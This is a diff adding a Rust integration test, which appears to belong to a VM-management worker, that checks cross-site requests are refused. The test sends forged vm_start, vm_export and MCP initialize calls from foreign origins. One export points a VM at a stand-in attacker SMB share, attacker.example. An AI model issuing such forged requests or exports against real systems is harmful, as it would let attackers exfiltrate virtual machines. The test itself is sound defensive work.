@@ -807,3 +807,119 @@ fn around(text: &str, needle: &str) -> String {
         .map_or(0, |(i, _)| i);
     text[start..at].to_owned()
 }
+
+/// Issue #15 item 2: a worker without a token (loopback) is no target for a browser page on
+/// another site: a cross-site `POST /v1/tools/vm_start` (`text/plain`), a `vm_export` to an
+/// attacker's share and an MCP `initialize` from a foreign Origin (or another port of the same
+/// host) are refused, nothing runs, and a plain JSON client still works.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn item2_a_tokenless_worker_refuses_cross_site_requests() {
+    common::init();
+    let listen = format!("127.0.0.1:{}", free_port());
+    let _worker = Proc::start(
+        "worker",
+        &[
+            "worker", "--mock", "lab", "--seed", "15", "--listen", &listen,
+        ],
+        &[],
+    );
+    let base = format!("http://{listen}");
+    assert!(wait_http_ok(&format!("{base}/health"), Duration::from_secs(20)).await);
+    let http = reqwest::Client::new();
+    let vms = async || -> Vec<Value> {
+        let v: Value = http
+            .get(format!("{base}/v1/vms"))
+            .send()
+            .await
+            .expect("GET /v1/vms")
+            .json()
+            .await
+            .expect("vms JSON");
+        v["vms"].as_array().cloned().unwrap_or_default()
+    };
+    let before = vms().await;
+    let off = before
+        .iter()
+        .find(|v| v["state"] != "RUNNING")
+        .and_then(|v| v["uuid"].as_str())
+        .expect("a VM that is not running")
+        .to_owned();
+    let body = json!({"vm": off}).to_string();
+    let export = json!({"vm": off, "uri": "smb://u:p@attacker.example/share"}).to_string();
+    for (origin, ctype, path, body) in [
+        (Some("http://evil.example"), "text/plain", "vm_start", &body),
+        (
+            Some("http://evil.example"),
+            "application/json",
+            "vm_start",
+            &body,
+        ),
+        (
+            Some("http://127.0.0.1:80"),
+            "application/json",
+            "vm_start",
+            &body,
+        ),
+        (None, "text/plain", "vm_start", &body),
+        (
+            None,
+            "application/x-www-form-urlencoded",
+            "vm_export",
+            &export,
+        ),
+        (
+            Some("http://evil.example"),
+            "text/plain",
+            "vm_export",
+            &export,
+        ),
+    ] {
+        let mut req = http
+            .post(format!("{base}/v1/tools/{path}"))
+            .header("content-type", ctype)
+            .body(body.clone());
+        if let Some(o) = origin {
+            req = req.header("origin", o);
+        }
+        let status = req.send().await.expect("POST").status().as_u16();
+        let want = if origin.is_some() { 403 } else { 415 };
+        assert_eq!(status, want, "{origin:?} {ctype} {path}");
+    }
+    // MCP initialize from a foreign origin.
+    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+        "protocolVersion": "2025-06-18", "capabilities": {},
+        "clientInfo": {"name": "evil", "version": "0"}}});
+    for origin in ["http://evil.example", "http://localhost:3000"] {
+        let r = http
+            .post(format!("{base}/mcp"))
+            .header("origin", origin)
+            .header("accept", "application/json, text/event-stream")
+            .json(&init)
+            .send()
+            .await
+            .expect("POST /mcp");
+        assert_eq!(r.status().as_u16(), 403, "{origin}");
+    }
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let after = vms().await;
+    let state_of = |list: &[Value]| {
+        list.iter()
+            .find(|v| v["uuid"] == off.as_str())
+            .map(|v| v["state"].clone())
+    };
+    assert_eq!(
+        state_of(&after),
+        state_of(&before),
+        "a cross-site request ran"
+    );
+    // The same origin, and plain JSON clients, still work.
+    let own = format!("http://{listen}");
+    let r = http
+        .post(format!("{base}/v1/tools/vm_get"))
+        .header("origin", own.as_str())
+        .json(&json!({"vm": off}))
+        .send()
+        .await
+        .expect("same-origin call");
+    assert_eq!(r.status().as_u16(), 200);
+}
